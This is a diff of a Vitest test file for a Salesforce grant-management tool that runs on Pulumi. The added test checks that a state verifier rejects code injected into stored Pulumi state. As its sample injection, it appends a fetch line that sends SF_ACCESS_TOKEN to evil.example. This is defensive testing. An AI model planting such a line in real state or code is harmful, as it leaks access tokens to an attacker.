@@ -1,7 +1,9 @@
+import { spawnSync } from "node:child_process";
+import path from "node:path";
 import { type LocalOrg, startLocalOrg } from "salesforce-local-org";
 import { BOBS_TOOL, dieppeTrading, OUTLOOK, SLACK } from "salesforce-local-org/orgs";
 import { afterEach, beforeEach, describe, expect, it } from "vitest";
-import { PROVIDER_TEXT } from "../../src/pulumi/providerText.ts";
+import { PROVIDER_TEXT } from "../../src/state/providerText.ts";
 import { rotateInUse } from "../night.ts";
 import { PulumiProject, revocationLines } from "./pulumiRun.ts";
 
@@ -26,6 +28,18 @@ function held(): Record<string, number> {
 function authorize(app: string, username = "ada.dubois@dieppe.example"): void {
   const now = Date.parse("2026-11-22T09:00:00Z");
   expect(org.store.addGrant({ username, app, createdAt: now, lastUsedAt: now, useCount: 1 })).not.toBeNull();
+}
+
+const STATE_FILE = ".pulumi-state/.pulumi/stacks/sanctioned/simulator.json";
+
+/** `pulumi stack export | sanctioned verify-state -`. */
+async function verifyState(): Promise<{ status: number | null; output: string }> {
+  const { output } = await project.run("stack", "export");
+  const bin = path.resolve(import.meta.dirname, "../../bin/sanctioned.js");
+  const { status, stdout, stderr } = spawnSync(process.execPath, [bin, "verify-state", "-"], {
+    input: output,
+  });
+  return { status, output: `${stdout}${stderr}` };
 }
 
 const revokeCalls = () => org.requests.filter(({ path }) => path === "/services/oauth2/revoke");
@@ -144,7 +158,7 @@ describe("Dieppe Trading on the real engine", () => {
 
   it("keeps its code out of the state: what the state holds of the provider is small and constant", async () => {
     await project.run("up", "--yes", "--skip-preview");
-    const state = JSON.parse(await project.read(".pulumi-state/.pulumi/stacks/sanctioned/simulator.json"));
+    const state = JSON.parse(await project.read(STATE_FILE));
     const resources = state.checkpoint.latest.resources as {
       type: string;
       inputs: Record<string, unknown>;
@@ -164,5 +178,22 @@ describe("Dieppe Trading on the real engine", () => {
       "policyFile",
       "revocations",
     ]);
+
+    // Pulumi runs what stands there at the next refresh, with the credential: this is asked before.
+    expect(await verifyState()).toEqual({
+      status: 0,
+      output: "The state on standard input runs this package alone: 3 resources looked at.\n",
+    });
+    const seen = org.requests.length;
+    policy.outputs.__provider += 'fetch("https://evil.example/?" + process.env.SF_ACCESS_TOKEN);';
+    await project.write(STATE_FILE, JSON.stringify(state));
+    const { status, output } = await verifyState();
+    expect(status).toBe(1);
+    expect(output).toMatch(
+      /ConnectedUserPolicy::connected-users: its outputs hold other code .*\[state-foreign-code]/,
+    );
+    expect(output).toContain("[state-not-verified]");
+    expect(output).not.toContain("evil");
+    expect(org.requests.length).toBe(seen);
   });
 });
